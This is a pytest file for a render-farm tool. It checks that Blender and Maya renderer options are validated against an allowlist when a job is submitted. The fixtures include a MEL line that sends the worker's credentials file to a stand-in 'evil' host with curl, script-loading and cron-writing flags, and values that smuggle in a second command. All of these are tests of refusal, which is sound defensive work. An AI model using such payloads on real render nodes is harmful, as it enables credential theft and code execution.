"""Renderer options are an allowlist, checked at submit (issue 11: code execution on a node).

The hostile argv cases of the issue are refused by `validate_jobspec` (what the
server, `farmhand submit` and the panel call) with a message naming the item;
the worker's refusal of the same cases is in tests/worker.
"""

from __future__ import annotations

import re
from pathlib import Path

import pytest
from farmhand.spec import render_options as ro
from farmhand.spec.jobspec import validate_jobspec, validate_preset

MD5 = "6e57efc1fb88700dfc4820e160348f07"
REPO = Path(__file__).resolve().parents[2]

MEL = 'system("cat /var/lib/farmhand-worker/worker.json | curl -d @- http://evil")'
HOSTILE_BLENDER = [
    (["--env-system-python", "../../root/C/py"], 0, "--env-system-python"),
    (["--log-file", "/etc/cron.d/farm"], 0, "--log-file"),
    (["--python", "../../root/C/py/evil.py"], 0, "--python"),
    (["-t", "4", "-P", "x.py"], 2, "-P"),
    (["--python-expr", "import os"], 0, "--python-expr"),
    (["--addons", "evil"], 0, "--addons"),
    (["--app-template", "evil"], 0, "--app-template"),
    (["--env-system-scripts", "/tmp"], 0, "--env-system-scripts"),
]
HOSTILE_MAYA = [
    ([hook, MEL], 0, hook)
    for hook in ("-preRender", "-postRender", "-preFrame", "-postFrame", "-preLayer", "-postLayer")
] + [(["-verb", "-log", "/etc/cron.d/farm"], 1, "-log"), (["-proj", "/"], 0, "-proj")]


def spec(adapter: str, extra: list[str], **renderer) -> dict:
    return {
        "name": "shot",
        "scene": {"path": "C:/p/shot.x", "blob": {"md5": MD5, "xxh64": "0" * 16, "size": 1}},
        "software": {"cg_name": adapter, "cg_version": "1"},
        "renderer": {"adapter": adapter, "extra_args": extra, **renderer},
        "frames": "1-3",
    }


@pytest.mark.parametrize(("extra", "index", "flag"), HOSTILE_BLENDER)
def test_blender_hooks_are_refused_at_submit(extra: list[str], index: int, flag: str) -> None:
    problems = validate_jobspec(spec("blender", extra))
    assert len(problems) == 1, problems
    assert problems[0].startswith(f'renderer.extra_args[{index}]: "{flag}" is not allowed')


@pytest.mark.parametrize("renderer", ["arnold", "sw", "redshift", None])
@pytest.mark.parametrize(("extra", "index", "flag"), HOSTILE_MAYA)
def test_maya_hooks_are_refused_at_submit(extra, index, flag, renderer) -> None:
    problems = validate_jobspec(spec("maya", extra, **({"name": renderer} if renderer else {})))
    assert len(problems) == 1, problems
    assert problems[0].startswith(f'renderer.extra_args[{index}]: "{flag}" is not allowed')


def test_a_preset_cannot_carry_them_either() -> None:
    preset = {"name": "evil", "renderer": {"adapter": "maya", "extra_args": ["-postFrame", MEL]}}
    assert any('"-postFrame" is not allowed' in p for p in validate_preset(preset))


@pytest.mark.parametrize(
    ("adapter", "renderer", "extra"),
    [
        ("blender", {}, ["-t", "8", "--factory-startup", "-noaudio", "--log", "cycles.*"]),
        ("blender", {}, ["--threads", "0", "--log-level", "-1", "--debug-cycles"]),
        ("maya", {"name": "arnold"}, ["-ai:threads", "-2", "-ai:as", "4", "-ai:mben", "on"]),
        ("maya", {"name": "mayaSoftware"}, ["-n", "0", "-eaa", "1", "-pad", "4"]),
        ("maya", {}, ["-verb", "-skipExistingFrames", "true", "-percentRes", "50.5"]),
    ],
)
def test_allowed_options_pass(adapter: str, renderer: dict, extra: list[str]) -> None:
    assert validate_jobspec(spec(adapter, extra, **renderer)) == []


@pytest.mark.parametrize(
    ("adapter", "renderer", "message"),
    [
        ("blender", {"engine": "CYCLES --python x"}, "renderer.engine: "),
        ("blender", {"image_format": "PNG -P"}, "renderer.image_format: "),
        ("maya", {"name": "arnold; system"}, "renderer.name: "),
        ("maya", {"image_format": "-rd /"}, "renderer.image_format: "),
    ],
)
def test_other_renderer_values_are_checked_at_submit(adapter, renderer, message) -> None:
    problems = validate_jobspec(spec(adapter, [], **renderer))
    assert [p for p in problems if p.startswith(message)], problems


def test_the_command_adapter_is_not_touched() -> None:
    command = spec("command", [])
    command["renderer"] = {"adapter": "command", "argv": ["python3", "{scene}"]}
    assert validate_jobspec(command) == []


def test_every_allowed_option_is_listed_in_the_docs() -> None:
    text = (REPO / "docs" / "worker-adapters.md").read_text(encoding="utf-8")
    options = [*ro.BLENDER_OPTIONS, *ro.MAYA_COMMON_OPTIONS]
    options += [o for group in ro.MAYA_RENDERER_OPTIONS.values() for o in group]
    missing = [row for row in ro.describe_options(options) if row not in text]
    assert missing == [], "docs/worker-adapters.md lacks:\n" + "\n".join(missing)


def test_no_allowed_option_takes_a_path_or_code() -> None:
    values = [o.value for o in ro.allowed_options("blender")]
    values += [o.value for group in ro.MAYA_RENDERER_OPTIONS.values() for o in group]
    values += [o.value for o in ro.MAYA_COMMON_OPTIONS]
    for value in values:
        if value is not None and value.kind == "text":
            assert not re.fullmatch(value.pattern, "/etc/passwd")
            assert not re.fullmatch(value.pattern, "a b")
